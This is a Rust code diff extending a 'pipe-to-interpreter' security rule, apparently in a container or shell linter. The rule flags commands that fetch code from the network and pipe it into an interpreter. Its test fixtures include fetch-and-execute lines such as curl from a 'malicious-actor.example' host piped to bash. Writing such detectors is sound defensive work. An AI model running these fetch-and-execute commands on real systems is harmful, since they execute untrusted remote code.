@@ -3,7 +3,8 @@
 use std::collections::BTreeSet;
 
 use crate::facts::shell::{Arg, Command, Pipe, Program, Script};
-use crate::policy::{Confidence, Found, Outline, Rule};
+use crate::policy::executed;
+use crate::policy::{Acts, Confidence, Found, Outline, Rule};
 
 pub(in crate::policy) static RULE: Rule = Rule {
     id: "pipe-to-interpreter",
@@ -11,11 +12,14 @@ pub(in crate::policy) static RULE: Rule = Rule {
     text: "Finds a stream that begins at a command which fetches (curl, wget, nc, git archive …), \
            goes on through any others (tee, base64, gunzip, sed …), and ends as the program of an \
            interpreter (sh, bash, python, perl, node, php …): through a pipe, `$(…)`, `<(…)`, \
-           `<<<`, a variable, or `eval`. Wrappers (`sudo`, `env`, `xargs`) are looked through.\n\n\
+           `<<<`, a variable, or `eval`. Wrappers (`sudo`, `env`, `xargs`) are looked through. Under \
+           an audit, the programs of a step are looked at as well, with the pipes between them, \
+           whatever script started them.\n\n\
            What only reads data (jq, tar, gpg, sha256sum) is no interpreter, nor is one that has \
            its program elsewhere and reads the stream as data (`python parse.py`).\n\n\
            Fetch with `ADD --checksum=sha256:…`, and run the file.",
     text_check: Some(check),
+    behaviour_check: Some(check_behaviour),
     bad: &[
         "FROM busybox\nRUN curl -sSL http://malicious-actor.example/payload.sh | bash\n",
         "FROM busybox\nRUN sh -c \"$(wget -qO- https://example.org/i.sh)\"\n",
@@ -137,5 +141,46 @@ fn runs(command: &Command, tainted: &BTreeSet<Taint>) -> Option<Taint> {
             of(&command.reads).filter(|_| command.name().is_some_and(|n| shells.contains(&n)))
         }
         None => None,
+    }
+}
+
+fn check_behaviour(acts: &Acts<'_, '_>, found: &mut Found<'_>) {
+    for (act, seen) in acts.watched(found) {
+        let networked = executed::networked(seen);
+        for (index, program) in seen.execs.iter().enumerate() {
+            // As it was started: of a script that the kernel gave to it, it reads the file.
+            if program.script().is_some() {
+                continue;
+            }
+            let words = executed::script_of(program, act.span);
+            let Some(command) = executed::command_of(&words) else { continue };
+            let descriptor = |path: &str| {
+                let number = path.strip_prefix("/dev/fd/").or(path.strip_prefix("/proc/self/fd/"));
+                number.and_then(|number| number.parse().ok())
+            };
+            let fd = match command.program() {
+                Some(Program::Stdin) => Some(0),
+                Some(Program::File(file)) => file.known().and_then(descriptor),
+                _ => None,
+            };
+            let Some(stream) = fd.and_then(|fd| program.streams.get(&fd)) else { continue };
+            // Both ways it is a shell for somebody else: see `reverse-shell`.
+            if stream.starts_with("inet:") && program.streams.get(&1) == Some(stream) {
+                continue;
+            }
+            let from = executed::source(seen, stream, &networked);
+            if from.is_none() && !stream.starts_with("inet:") {
+                continue;
+            }
+            let by = from.map_or("a connection", |by| seen.execs[by].name());
+            let message = format!("`{}` runs what `{by}` fetches", program.name());
+            let mut finding = act
+                .finding(found, seen, Some(index), message)
+                .help("fetch a known file with `ADD --checksum=sha256:… URL /tmp/x`, then run it");
+            if let Some(from) = from {
+                finding = finding.evidence("fetched_by", seen.execs[from].argv.clone());
+            }
+            found.add(finding);
+        }
     }
 }
